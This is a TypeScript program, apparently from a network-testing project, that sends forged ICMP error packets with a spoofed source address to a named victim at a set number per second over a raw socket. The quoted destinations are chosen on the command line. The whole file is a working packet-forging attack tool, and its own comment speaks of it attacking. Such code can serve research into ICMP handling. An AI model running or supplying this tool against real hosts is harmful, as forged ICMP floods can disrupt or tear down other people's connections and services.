// A program: sends forged ICMP errors to a host, a number of them a second.
// Arguments: SOURCE VICTIM DESTINATIONS PER_SECOND SECONDS. DESTINATIONS are those of the quoted packets,
// separated by commas.

import { setTimeout as sleep } from "node:timers/promises";
import { type Ip, ip } from "../../src/lib/ip.ts";
import { MessageBatch } from "../../src/os/message-batch.ts";
import {
  AF_INET,
  attachFilter,
  dropEverything,
  ipv4SocketAddress,
  openPreparedSocket,
  SOCK_RAW,
} from "../../src/os/socket.ts";
import { emitForgedIcmp, everyForgedIcmp, IPPROTO_RAW } from "./forged-icmp.ts";

const TICK_MILLIS = 10;

const [source, victim, destinations = "", perSecond, seconds] = process.argv.slice(2);
const target: Ip = ip(victim ?? "");
const packets = everyForgedIcmp(ip(source ?? ""), target, destinations.split(",").map(ip)).map(
  emitForgedIcmp,
);
const fd = openPreparedSocket(AF_INET, SOCK_RAW, IPPROTO_RAW, (descriptor) =>
  attachFilter(descriptor, dropEverything),
);
const batch = new MessageBatch();
const start = performance.now();
const wanted = Number(perSecond) * Number(seconds);
let sent = 0;
while (sent < wanted) {
  // A slow machine catches up, so that it attacks as often.
  const due = Math.min(wanted, Math.ceil(((performance.now() - start) / 1000) * Number(perSecond)));
  for (; sent < due; sent++) {
    batch.add(packets[sent % packets.length] as Uint8Array, ipv4SocketAddress(target));
  }
  const [failure] = batch.send(fd);
  if (failure !== undefined) throw new Error(`errno ${failure.errno}`);
  await sleep(TICK_MILLIS);
}
